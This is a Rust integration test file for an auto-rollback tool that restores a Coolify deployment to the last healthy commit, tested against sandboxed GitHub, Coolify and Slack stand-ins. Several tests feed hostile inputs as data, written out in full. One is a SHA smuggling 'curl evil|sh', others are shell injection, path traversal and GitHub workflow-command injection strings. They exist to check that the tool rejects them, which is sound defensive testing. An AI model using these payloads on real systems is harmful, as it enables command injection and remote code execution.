//! auto-rollback as users run it, against the sandbox: a Coolify whose demo app's health
//! follows the image tag it runs, the GitHub REST subset, and a Slack webhook.

#![allow(clippy::unwrap_used, clippy::expect_used)] // a failed unwrap is a failed test

use std::time::Duration;

use sandbox::coolify::{Coolify, Script, TOKEN};
use sandbox::github::{self, GitHub};
use sandbox::harness::ToolRun;
use sandbox::slack::Slack;
use serde_json::{Value, json};

const BIN: &str = env!("CARGO_BIN_EXE_auto-rollback");
const WEB: &str = "webappuuid00000000000001";
const OLD: &str = "1111111111111111111111111111111111111111";
const GOOD: &str = "2222222222222222222222222222222222222222";
const BAD: &str = "3333333333333333333333333333333333333333";

fn tag(sha: &str) -> String {
    format!("main-{}", &sha[..7])
}

struct World {
    coolify: Coolify,
    github: GitHub,
    slack: Slack,
}

/// BAD runs and is unhealthy; OLD then GOOD deployed fine before it.
fn world() -> World {
    let coolify = Coolify::start().unwrap();
    coolify
        .add_app(WEB, "web", "ghcr.io/acme/web", &tag(BAD))
        .unhealthy_tag(&tag(BAD))
        .default_script(Script::finishes_after(Duration::from_millis(100)));
    let github = GitHub::start().unwrap();
    for sha in [OLD, GOOD, BAD] {
        github.add_run("deploy.yml", sha, "main", "success");
    }
    github.add_run(
        "deploy.yml",
        "4444444444444444444444444444444444444444",
        "main",
        "failure",
    );
    let slack = Slack::start().unwrap();
    World {
        coolify,
        github,
        slack,
    }
}

fn rollback(w: &World) -> ToolRun {
    ToolRun::new(BIN)
        .input("url", &w.coolify.health_url(WEB))
        .input("interval", "50ms")
        .input("request-timeout", "2s")
        .input("failure-threshold", "3")
        .input("verify-timeout", "10s")
        .input("coolify-url", &w.coolify.url())
        .input("coolify-token", TOKEN)
        .input("app", WEB)
        .input("image-tag-template", "main-{short_sha}")
        .input("poll-interval", "50ms")
        .input("github-token", github::TOKEN)
        .input("slack-webhook-url", &w.slack.webhook_url())
        .env("GITHUB_API_URL", &w.github.api_url())
        .env("GITHUB_REPOSITORY", github::REPOSITORY)
        .env("GITHUB_SERVER_URL", "https://github.com")
        .env("GITHUB_RUN_ID", "77")
}

fn deploys(w: &World) -> usize {
    w.coolify
        .requests()
        .iter()
        .filter(|r| r.path == "/deploy")
        .count()
}

fn slack_texts(w: &World) -> String {
    w.slack
        .received()
        .iter()
        .map(|r| r.raw.clone())
        .collect::<Vec<_>>()
        .join("\n")
}

fn rollback_records(w: &World) -> Vec<(String, Value, Vec<String>)> {
    w.github
        .deployments()
        .into_iter()
        .filter(|d| d.2["kind"] == "rollback")
        .map(|(sha, _, payload, states)| (sha, payload, states))
        .collect()
}

/// The "could not roll back" alert reached Slack.
fn assert_alerted(w: &World) {
    let texts = slack_texts(w);
    assert!(texts.contains("could not be rolled back"), "{texts}");
}

#[test]
fn unhealthy_rolls_back_to_the_newest_good_version_and_verifies() {
    let w = world();
    let run = rollback(&w).run();
    run.assert_exit(0);
    assert_eq!(run.output("healthy-before"), "false");
    assert_eq!(run.output("rolled-back"), "true");
    assert_eq!(run.output("from"), &BAD[..7]);
    assert_eq!(run.output("to"), GOOD);
    assert_eq!(run.output("verified"), "true");
    assert_eq!(run.output("reason"), "rolled-back");
    assert_eq!(w.coolify.running_tag(WEB), Some(tag(GOOD)));
    let records = rollback_records(&w);
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].0, GOOD);
    assert_eq!(records[0].1["from_sha"], &BAD[..7]);
    assert_eq!(records[0].2, vec!["in_progress", "success"]);
    assert!(
        slack_texts(&w).contains("verified healthy"),
        "{}",
        slack_texts(&w)
    );
    assert!(
        run.summary.contains("A rollback does not revert"),
        "{}",
        run.summary
    );
    assert!(run.summary.contains("```mermaid\ngantt"), "{}", run.summary);
    assert!(run.summary.contains("Failing checks"), "{}", run.summary);
}

#[test]
fn healthy_changes_nothing() {
    let w = world();
    w.coolify
        .add_app(WEB, "web", "ghcr.io/acme/web", &tag(GOOD));
    let run = rollback(&w).run();
    run.assert_exit(0);
    assert_eq!(run.output("reason"), "healthy");
    assert_eq!(run.output("rolled-back"), "false");
    assert_eq!(deploys(&w), 0);
    assert!(w.slack.received().is_empty());
}

#[test]
fn dry_run_decides_and_changes_nothing() {
    let w = world();
    let run = rollback(&w).input("dry-run", "true").run();
    run.assert_exit(0);
    assert_eq!(run.output("reason"), "dry-run");
    assert_eq!(run.output("to"), GOOD);
    assert!(run.stdout.contains("would roll back"), "{}", run.stdout);
    assert_eq!(deploys(&w), 0);
    assert!(w.coolify.requests().iter().all(|r| r.method == "GET"));
    assert!(rollback_records(&w).is_empty());
    assert!(w.slack.received().is_empty());
}

#[test]
fn no_candidate_fails_closed_and_alerts() {
    let w = world();
    let github = GitHub::start().unwrap();
    github.add_run("deploy.yml", BAD, "main", "success");
    let run = rollback(&w).env("GITHUB_API_URL", &github.api_url()).run();
    run.assert_exit(1);
    assert_eq!(run.output("reason"), "no-target");
    assert_eq!(run.output("rolled-back"), "false");
    assert_eq!(deploys(&w), 0);
    assert!(
        run.stderr.contains("title=rollback-no-target"),
        "{}",
        run.stderr
    );
    assert_alerted(&w);
}

#[test]
fn manual_to_rolls_back_to_that_commit() {
    let w = world();
    let run = rollback(&w).input("to", OLD).run();
    run.assert_exit(0);
    assert_eq!(run.output("healthy-before"), "unknown");
    assert_eq!(run.output("to"), OLD);
    assert_eq!(w.coolify.running_tag(WEB), Some(tag(OLD)));
}

#[test]
fn history_longer_than_one_page_is_followed() {
    let w = world();
    let github = GitHub::start().unwrap();
    github.add_run("deploy.yml", GOOD, "main", "success");
    for _ in 0..130 {
        github.add_run("deploy.yml", BAD, "main", "success"); // re-runs of the bad commit
    }
    let run = rollback(&w).env("GITHUB_API_URL", &github.api_url()).run();
    run.assert_exit(0);
    assert_eq!(run.output("to"), GOOD);
    let pages = github
        .calls()
        .iter()
        .filter(|c| c.path.ends_with("/runs"))
        .count();
    assert_eq!(pages, 2, "the second page was read");
}

#[test]
fn cooldown_blocks_a_second_rollback() {
    let w = world();
    w.github.add_deployment(
        GOOD,
        "production",
        json!({"kind": "rollback", "from_sha": OLD, "to_sha": GOOD}),
        "success",
        Duration::from_secs(5 * 60),
    );
    let run = rollback(&w).run();
    run.assert_exit(1);
    assert_eq!(run.output("reason"), "cooldown");
    assert_eq!(deploys(&w), 0);
    // Outside a shorter cooldown it goes ahead.
    let run = rollback(&w).input("cooldown", "1m").run();
    run.assert_exit(0);
}

#[test]
fn a_deployment_in_progress_blocks_the_rollback() {
    let w = world();
    w.coolify.default_script(Script::never_ends());
    w.coolify.start_deployment(WEB).unwrap();
    let run = rollback(&w).run();
    run.assert_exit(1);
    assert_eq!(run.output("reason"), "deployment-in-progress");
    assert_eq!(deploys(&w), 0);
}

#[test]
fn a_rolled_back_version_that_is_also_unhealthy_exits_1_and_says_so() {
    let w = world();
    w.coolify.unhealthy_tag(&tag(GOOD));
    let run = rollback(&w).input("verify-timeout", "500ms").run();
    run.assert_exit(1);
    assert_eq!(run.output("reason"), "verification-failed");
    assert_eq!(run.output("rolled-back"), "true");
    assert_eq!(run.output("verified"), "false");
    assert_eq!(rollback_records(&w)[0].2, vec!["in_progress", "failure"]);
    assert!(
        slack_texts(&w).contains("still unhealthy after the rollback"),
        "{}",
        slack_texts(&w)
    );
}

#[test]
fn a_second_scheduled_run_never_flips_back() {
    let w = world();
    rollback(&w).run().assert_exit(0);
    // GOOD now runs; suppose it degrades later. The next run goes further back, never to BAD.
    w.coolify.unhealthy_tag(&tag(GOOD));
    let run = rollback(&w).input("cooldown", "0s").run();
    run.assert_exit(0);
    assert_eq!(run.output("to"), OLD);
    assert_eq!(w.coolify.running_tag(WEB), Some(tag(OLD)));
    // And once OLD is bad too, nothing qualifies: BAD was left by a rollback, GOOD as well.
    w.coolify.unhealthy_tag(&tag(OLD));
    let run = rollback(&w).input("cooldown", "0s").run();
    run.assert_exit(1);
    assert_eq!(run.output("reason"), "no-target");
}

#[test]
fn fail_on_rollback_makes_a_performed_rollback_exit_1() {
    let w = world();
    let run = rollback(&w).input("fail-on-rollback", "true").run();
    run.assert_exit(1);
    assert_eq!(run.output("reason"), "rolled-back");
}

#[test]
fn deployments_source_counts_inactive_as_a_former_success() {
    let w = world();
    let github = GitHub::start().unwrap();
    github.add_deployment(
        OLD,
        "production",
        json!({}),
        "success",
        Duration::from_secs(7200),
    );
    github.add_deployment(
        GOOD,
        "production",
        json!({}),
        "success",
        Duration::from_secs(3600),
    );
    github.add_deployment(
        BAD,
        "production",
        json!({}),
        "success",
        Duration::from_secs(600),
    );
    // GOOD is now `inactive` (retired by BAD's success), and still a good version.
    let run = rollback(&w)
        .env("GITHUB_API_URL", &github.api_url())
        .input("source", "deployments")
        .run();
    run.assert_exit(0);
    assert_eq!(run.output("to"), GOOD);
}

#[test]
fn secrets_are_never_printed() {
    let w = world();
    const SENTINEL: &str = "9|SENTINEL-rollback-token";
    w.coolify.add_token(SENTINEL, &["root"], false);
    let run = rollback(&w).input("coolify-token", SENTINEL).run();
    run.assert_exit(0);
    let everything = run.everything();
    let leaks: Vec<&str> = everything
        .lines()
        .filter(|l| l.contains("SENTINEL") && !l.starts_with("::add-mask::"))
        .collect();
    assert!(leaks.is_empty(), "{leaks:?}");
}

#[test]
fn bad_inputs_exit_2_with_one_line() {
    let w = world();
    let cases = [
        (rollback(&w).input("url", ""), "missing input `url`"),
        (rollback(&w).input("app", ""), "missing input `app`"),
        (rollback(&w).input("coolify-url", "nope"), "coolify-url"),
        (
            rollback(&w).input("image-tag-template", "latest"),
            "image-tag-template",
        ),
        (
            rollback(&w).input("failure-threshold", "0"),
            "failure-threshold",
        ),
        (rollback(&w).input("source", "tags"), "source"),
        (rollback(&w).input("cooldown", "soon"), "cooldown"),
        (rollback(&w).input("github-token", ""), "github-token"),
        (rollback(&w).input("dry-run", "maybe"), "dry-run"),
        (rollback(&w).input("timeout", "0"), "timeout"),
        (rollback(&w).input("workflow", "../x.yml"), "workflow"),
        (rollback(&w).input("to", "x;id"), "`to`"),
    ];
    for (run, needle) in cases {
        let run = run.run();
        run.assert_exit(2);
        assert!(run.stderr.contains(needle), "{needle}: {}", run.stderr);
        run.assert_one_error_line();
    }
    assert!(w.coolify.requests().is_empty());
}

// ---- Rollback safety: everything from GitHub and Coolify is untrusted ----

fn patched_tags(w: &World) -> Vec<String> {
    w.coolify
        .requests()
        .iter()
        .filter(|r| r.method == "PATCH")
        .map(|r| r.body.as_ref().map(ToString::to_string).unwrap_or_default())
        .collect()
}

#[test]
fn hostile_head_shas_are_never_candidates() {
    let w = world();
    for hostile in ["x;curl evil|sh #", "../../etc/passwd", ""] {
        w.github.add_run("deploy.yml", hostile, "main", "success");
    }
    let run = rollback(&w).run();
    run.assert_exit(0);
    assert_eq!(run.output("to"), GOOD);
    assert_eq!(w.coolify.running_tag(WEB), Some(tag(GOOD)));
    let patched = patched_tags(&w);
    assert_eq!(patched.len(), 1, "{patched:?}");
    assert!(patched[0].contains(&tag(GOOD)), "{patched:?}");
    let records = rollback_records(&w);
    assert_eq!(records.len(), 1);
    assert_eq!(records[0].0, GOOD);
    let report = run.report();
    assert_eq!(report["not_candidates_total"], 3, "{report}");
    assert!(
        report["not_candidates"][0]
            .as_str()
            .unwrap()
            .contains("not a commit SHA"),
        "{report}"
    );
}

#[test]
fn only_runs_that_deployed_this_repositorys_branch_are_candidates() {
    let w = world();
    let fork = "5555555555555555555555555555555555555555";
    let pr = "6666666666666666666666666666666666666666";
    let other_branch = "7777777777777777777777777777777777777777";
    // A fork's pull request from its own branch called `main`, and a pull_request run here.
    w.github
        .add_run_with(
            "deploy.yml",
            fork,
            "main",
            "success",
            "pull_request",
            "mallory/shop",
        )
        .add_run_with(
            "deploy.yml",
            fork,
            "main",
            "success",
            "push",
            "mallory/shop",
        )
        .add_run_with(
            "deploy.yml",
            pr,
            "main",
            "success",
            "pull_request_target",
            github::REPOSITORY,
        )
        .add_run_with(
            "deploy.yml",
            pr,
            "main",
            "success",
            "schedule",
            github::REPOSITORY,
        );
    let run = rollback(&w).run();
    run.assert_exit(0);
    assert_eq!(run.output("to"), GOOD);
    assert_eq!(run.report()["not_candidates_total"], 4);
    // workflow_dispatch on this repository's branch counts.
    let w = world();
    w.github.add_run_with(
        "deploy.yml",
        other_branch,
        "main",
        "success",
        "workflow_dispatch",
        github::REPOSITORY,
    );
    w.coolify.unhealthy_tag(&tag(GOOD));
    let run = rollback(&w).input("dry-run", "true").run();
    run.assert_exit(0);
    assert_eq!(run.output("to"), other_branch);
}

#[test]
fn hostile_run_fields_start_no_workflow_command() {
    for format in ["github", "json", "human"] {
        let w = world();
        w.github
            .add_run_with(
                "deploy.yml",
                "5555555555555555555555555555555555555555",
                "main",
                "success",
                "pull_request\n::error title=pwned::event",
                github::REPOSITORY,
            )
            .add_run_with(
                "deploy.yml",
                "6666666666666666666666666666666666666666",
                "main",
                "success",
                "push",
                "mallory/shop\r##[error]pwned-repository",
            );
        let run = rollback(&w).input("format", format).run();
        run.assert_exit(0);
        assert_eq!(run.report()["not_candidates_total"], 2);
        assert!(run.summary.contains("pwned"), "shown: {}", run.summary);
        if format == "json" {
            assert!(run.stdout.contains("pwned"), "{}", run.stdout);
            let parsed: serde_json::Value = serde_json::from_str(&run.stdout).unwrap();
            assert_eq!(parsed["not_candidates_total"], 2);
        }
        for line in run.stderr.lines().chain(run.stdout.lines()) {
            assert!(
                !line.trim_start().starts_with("::error title=pwned")
                    && !line.contains("##[error]"),
                "{format}: a hostile run field became a command: {line:?}"
            );
        }
    }
}

#[test]
fn an_unmappable_running_version_stops_deploys_nothing_and_alerts() {
    for running in ["latest", ""] {
        let w = world();
        w.coolify.add_app(WEB, "web", "ghcr.io/acme/web", running);
        w.coolify.unhealthy_tag(running).unhealthy_tag("latest");
        let run = rollback(&w).run();
        run.assert_exit(1);
        assert_eq!(
            run.output("reason"),
            "unknown-running-version",
            "{running:?}"
        );
        assert_eq!(deploys(&w), 0);
        assert!(patched_tags(&w).is_empty());
        assert!(rollback_records(&w).is_empty());
        assert!(run.stdout.contains("image-tag-template"), "{}", run.stdout);
        assert_alerted(&w);
    }
}

#[test]
fn a_hostile_running_tag_is_shown_neutralised() {
    // Not an image tag Coolify could run, so what runs is unknown: the sentence that says so
    // shows the server's text, which must not become a workflow command (V1 `##[` anywhere
    // in a line).
    let w = world();
    let hostile = "##[error]pwned\n::error title=pwned::x";
    w.coolify.add_app(WEB, "web", "ghcr.io/acme/web", hostile);
    w.coolify.unhealthy_tag(hostile);
    let run = rollback(&w).run();
    run.assert_exit(1);
    assert_eq!(run.output("reason"), "unknown-running-version");
    assert!(run.stdout.contains("pwned"), "{}", run.stdout);
    for line in run.stderr.lines().chain(run.stdout.lines()) {
        assert!(
            !line.contains("##[error]") && !line.trim_start().starts_with("::error title=pwned"),
            "the running tag became a command: {line:?}"
        );
    }
}

#[test]
fn manual_to_takes_the_image_tag_coolify_deploy_reports() {
    // deploy.yml passes `previous-image-tags` (e.g. main-1111111) as `to`.
    let w = world();
    let run = rollback(&w).input("to", &tag(OLD)).run();
    run.assert_exit(0);
    assert_eq!(run.output("to"), &OLD[..7]);
    assert_eq!(w.coolify.running_tag(WEB), Some(tag(OLD)));
    assert_eq!(rollback_records(&w)[0].0, &OLD[..7]);
}

#[test]
fn a_manual_to_records_the_running_tag_as_from() {
    let w = world();
    w.coolify.add_app(WEB, "web", "ghcr.io/acme/web", "latest");
    let run = rollback(&w).input("to", OLD).run();
    run.assert_exit(0);
    assert_eq!(run.output("from"), "latest");
    let records = rollback_records(&w);
    assert_eq!(records[0].1["from_tag"], "latest");
}

#[test]
fn the_cooldown_fails_closed_on_skewed_and_odd_timestamps() {
    let recent = github::timestamp(Duration::from_secs(60));
    for created_at in [
        "2999-01-01T00:00:00Z".to_owned(),
        String::new(),
        "2026-11-23T08:00:00+0000".to_owned(),
        recent.replace('Z', "+00:00"),
        recent,
    ] {
        let w = world();
        w.github.add_deployment_at(
            GOOD,
            "production",
            json!({"kind": "rollback", "from_sha": OLD, "to_sha": GOOD}),
            "success",
            &created_at,
        );
        let run = rollback(&w).run();
        run.assert_exit(1);
        assert_eq!(run.output("reason"), "cooldown", "{created_at:?}");
        assert_eq!(deploys(&w), 0, "{created_at:?}");
    }
}

#[test]
fn github_failing_after_the_verdict_still_writes_outputs_and_alerts() {
    let w = world();
    let github = GitHub::start().unwrap();
    github.add_run("deploy.yml", GOOD, "main", "success");
    for _ in 0..130 {
        github.add_run("deploy.yml", BAD, "main", "success");
    }
    github.fail_page("/runs", 2, 500);
    let run = rollback(&w).env("GITHUB_API_URL", &github.api_url()).run();
    run.assert_exit(3);
    run.assert_one_error_line();
    assert_eq!(run.output("healthy-before"), "false");
    assert_eq!(run.output("reason"), "error");
    assert_eq!(run.output("rolled-back"), "false");
    assert!(run.summary.contains("auto-rollback"), "{}", run.summary);
    assert_eq!(deploys(&w), 0);
    assert_alerted(&w);
}

#[test]
fn coolify_down_after_the_verdict_still_writes_outputs_and_alerts() {
    let w = world();
    w.coolify.outage(true);
    let run = rollback(&w).run();
    run.assert_exit(3);
    run.assert_one_error_line();
    assert_eq!(run.output("healthy-before"), "false");
    assert_eq!(run.output("reason"), "error");
    assert!(!run.summary.is_empty());
    assert_alerted(&w);
}

#[test]
fn a_rate_limit_is_reported_with_its_reset_time() {
    for status in [403, 429] {
        let w = world();
        w.github.rate_limited(status, 1_795_420_800);
        let run = rollback(&w).run();
        run.assert_exit(3);
        assert!(run.stderr.contains("rate limit"), "{}", run.stderr);
        assert!(
            run.stderr.contains("resets at 2026-11-23T08:00:00Z"),
            "{}",
            run.stderr
        );
        assert!(!run.stderr.contains("lacks a permission"), "{}", run.stderr);
        assert_eq!(deploys(&w), 0);
    }
}

#[test]
fn to_is_validated_before_any_network_call() {
    let w = world();
    w.coolify.outage(true);
    for bad in ["x;id", "../../etc/passwd", "main-xyz", "latest", "111111"] {
        let run = rollback(&w).input("to", bad).run();
        run.assert_exit(2);
        run.assert_one_error_line();
        assert!(run.stderr.contains("`to`"), "{}", run.stderr);
    }
    assert!(w.coolify.requests().is_empty());
    assert!(w.github.calls().is_empty());
}

#[test]
fn the_overall_timeout_bounds_a_trickling_github() {
    let w = world();
    w.github.trickle(Duration::from_millis(500));
    let run = rollback(&w)
        .input("timeout", "3s")
        .limit(Duration::from_secs(40))
        .run();
    run.assert_exit(1);
    assert_eq!(run.output("reason"), "timeout");
    assert_eq!(run.output("healthy-before"), "false");
    assert!(
        run.stdout.contains("reading GitHub history"),
        "{}",
        run.stdout
    );
    assert_eq!(deploys(&w), 0);
    assert_alerted(&w);
}

#[test]
fn the_deployment_creating_post_is_sent_once() {
    let w = world();
    w.github.fail("POST", "/deployments", 502, 1);
    let run = rollback(&w).run();
    run.assert_exit(3);
    let posts = w
        .github
        .calls()
        .iter()
        .filter(|c| c.method == "POST" && c.path.ends_with("/deployments"))
        .count();
    assert_eq!(
        posts, 1,
        "a 502 on the POST that creates a record is not retried"
    );
    assert_eq!(run.output("reason"), "error");
    assert_eq!(deploys(&w), 0, "no rollback without its record");
}

#[test]
fn github_reads_are_retried_by_our_policy() {
    let w = world();
    w.github.fail("GET", "/runs", 502, 1);
    let run = rollback(&w).run();
    run.assert_exit(0);
    assert_eq!(run.output("to"), GOOD);
    let reads = w
        .github
        .calls()
        .iter()
        .filter(|c| c.path.ends_with("/runs"))
        .count();
    assert_eq!(reads, 2, "the 502 was retried once");
}

#[test]
fn github_calls_go_through_the_proxy_from_the_environment() {
    let w = world();
    // `github.invalid` never resolves: only a proxy can reach it. NO_PROXY keeps Coolify
    // and the app on loopback direct. The GitHub stand-in serves absolute-form requests.
    let run = rollback(&w)
        .env("GITHUB_API_URL", "http://github.invalid")
        .env("HTTP_PROXY", &w.github.api_url())
        .env("NO_PROXY", "127.0.0.1,localhost")
        .run();
    run.assert_exit(0);
    assert_eq!(run.output("to"), GOOD);
    assert!(!w.github.calls().is_empty());
}

#[test]
fn https_github_calls_tunnel_through_https_proxy() {
    let w = world();
    let proxy = sandbox::proxy::ProxyRecorder::start().unwrap();
    let run = rollback(&w)
        .env("GITHUB_API_URL", "https://github.invalid")
        .env("HTTPS_PROXY", &proxy.url())
        .env("NO_PROXY", "127.0.0.1,localhost")
        .run();
    // The recorder refuses the tunnel: what matters is that it was asked for one.
    run.assert_exit(3);
    assert!(
        proxy
            .lines()
            .iter()
            .any(|l| l.starts_with("CONNECT github.invalid:443")),
        "{:?}",
        proxy.lines()
    );
}

#[test]
fn dry_run_and_fail_on_rollback_are_switches() {
    let w = world();
    let run = rollback(&w).arg("--dry-run").run();
    run.assert_exit(0);
    assert_eq!(run.output("reason"), "dry-run");
    assert_eq!(deploys(&w), 0);
    let run = rollback(&w)
        .input("dry-run", "true")
        .arg("--dry-run=maybe")
        .run();
    run.assert_exit(2);
    assert!(
        run.stderr.contains("invalid input `dry-run`"),
        "{}",
        run.stderr
    );
    let run = rollback(&w).arg("--fail-on-rollback").run();
    run.assert_exit(1);
    assert_eq!(run.output("reason"), "rolled-back");
}

#[test]
fn a_missing_token_says_how_to_give_it_where_the_tool_runs() {
    let w = world();
    let laptop = rollback(&w)
        .input("coolify-token", "")
        .without_env("GITHUB_ACTIONS")
        .run();
    laptop.assert_exit(2);
    laptop.assert_one_error_line();
    assert!(
        laptop.stderr.contains("COOLIFY_TOKEN=…"),
        "{}",
        laptop.stderr
    );
    assert!(
        laptop.stderr.contains("--coolify-token-file PATH"),
        "{}",
        laptop.stderr
    );
    assert!(!laptop.stderr.contains("${{"), "{}", laptop.stderr);
    let step = rollback(&w).input("coolify-token", "").run();
    step.assert_exit(2);
    assert!(
        step.stderr
            .contains("`coolify-token: ${{ secrets.COOLIFY_TOKEN }}`"),
        "{}",
        step.stderr
    );
}

#[test]
fn completions_and_man_page() {
    sandbox::cli_checks::assert_completions_and_man(
        BIN,
        "auto-rollback",
        &[
            "--url",
            "--dry-run",
            "--fail-on-rollback",
            "--slack-webhook-url-file",
        ],
    );
}
